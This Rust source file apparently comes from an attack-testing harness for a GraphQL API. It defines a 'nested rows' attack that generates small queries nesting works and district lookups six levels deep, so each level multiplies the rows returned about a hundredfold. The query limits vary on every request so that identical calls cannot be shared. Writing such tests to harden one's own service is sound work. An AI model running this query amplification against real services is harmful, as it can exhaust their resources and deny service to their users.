//! 295 bytes that request the works of the districts of the works of the districts …: each of six levels multiplies the
//! rows by a hundred, and only few objects are distinct.

use crate::Aim;
use crate::attack::{Attack, Class};

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Query,
    "nested rows",
    "six levels of `works(first: 100)`, 295 bytes",
    |aim| Box::pin(run(aim)),
);

async fn run(aim: Aim) {
    // Different each time: running calls are shared.
    aim.posts(|number, round| {
        let first = 60 + (number * 7 + round) % 41;
        let open = format!("works(first: {first}) {{ nodes {{ district {{ ").repeat(6);
        let query = format!("{{ districts {{ {open}lgdCode{}", " }".repeat(20));
        crate::wire::operation(&query)
    })
    .await;
}
